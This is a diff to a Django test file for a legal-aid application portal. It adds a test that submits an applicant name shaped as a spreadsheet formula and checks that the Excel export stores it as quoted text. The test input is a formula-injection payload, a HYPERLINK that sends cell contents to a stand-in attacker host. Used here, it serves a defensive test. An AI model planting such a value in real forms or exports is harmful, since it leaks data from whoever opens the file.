@@ -13,6 +13,7 @@ import datetime
 import logging
 import time
 from decimal import Decimal
+from io import BytesIO
 
 import pytest
 from django.core.cache import cache
@@ -21,6 +22,7 @@ from django.db import connection
 from django.test import Client, override_settings
 from django.urls import reverse
 from django.utils import timezone
+from openpyxl import load_workbook
 from stdnum.cn import ric
 
 from sifa.core.crypto import blind_index
@@ -592,3 +594,23 @@ def test_the_portal_has_no_staff_menu_even_for_staff(login, cast):
     assert "sifa-shell" not in text(response)
     assert "sifa-sidebar" not in text(response)
     assert 'name="homepage"' in text(response)  # the honeypot is there, hidden
+
+
+def test_a_portal_applicant_named_like_a_formula_is_exported_as_text(
+    client, cast, centre, reviewer, login
+):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"王小二")'
+    response = submit(client, cast, centre, name=name, adverse_party="@SUM(1+1)")
+    assert response.status_code in (200, 302)
+    assert Application.objects.filter(applicant__name=name).exists()
+
+    export = login(reviewer).get(reverse("legalaid:application_export"))
+
+    sheet = load_workbook(BytesIO(export.content)).worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    (row,) = [
+        r for r in sheet.iter_rows(min_row=2) if r[header.index("申请人/受援人")].value == name
+    ]
+    for cell in (row[header.index("申请人/受援人")], row[header.index("对方当事人")]):
+        assert cell.data_type == "s" and cell.quotePrefix
+    assert row[header.index("对方当事人")].value == "@SUM(1+1)"
